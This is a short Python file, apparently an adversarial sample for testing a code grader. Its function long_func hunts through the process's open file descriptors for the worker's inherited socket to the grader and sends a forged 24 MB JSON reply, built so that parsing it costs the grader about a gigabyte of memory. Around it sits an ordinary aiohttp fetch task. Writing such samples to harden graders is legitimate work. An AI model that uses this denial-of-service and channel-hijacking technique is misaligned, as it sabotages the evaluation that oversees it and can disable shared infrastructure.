# ruff: noqa
"""Reply bomb: long_func writes one 24 MB JSON line on the worker's channel to the grader.

The channel is the inherited socket the worker answers on; student code finds
it among its open file descriptors (an unnamed AF_UNIX stream socket, one end
of a socketpair, and blocking: asyncio's self-pipe is not). The line is a
well-formed reply whose value is eight million empty lists: read whole and
parsed, it costs the trusted side about a gigabyte.
"""

import asyncio
import os
import socket
import stat

import aiohttp

URL = "https://www.gosuslugi.ru/"
BOMB = b'{"reply": {"value": [' + b"[]," * (8 << 20) + b'[]]}}\n'  # ~24 MB


def _channels() -> list[socket.socket]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if not stat.S_ISSOCK(os.fstat(fd).st_mode) or not os.get_blocking(fd):
                continue  # asyncio's own socketpair (its self-pipe) is non-blocking
            sock = socket.socket(fileno=os.dup(fd))
        except (OSError, ValueError):
            continue
        try:
            if (sock.family == socket.AF_UNIX and sock.getpeername() in ("", b"")
                    and sock.getsockname() in ("", b"")):
                found.append(sock)
                continue
        except OSError:
            pass
        sock.close()
    return found


def _bomb() -> None:
    for sock in _channels():
        try:
            sock.settimeout(30)
            sock.sendall(BOMB)
        except OSError:
            pass


async def long_func(i: int, session: aiohttp.ClientSession | None = None) -> int:
    _bomb()
    if session is None:
        async with aiohttp.ClientSession() as own_session:
            return await long_func(i, own_session)
    print(i)
    async with session.get(URL) as response:
        return response.status


async def main() -> list[int]:
    async with aiohttp.ClientSession() as session:
        return await asyncio.gather(*(long_func(i, session) for i in range(15)))
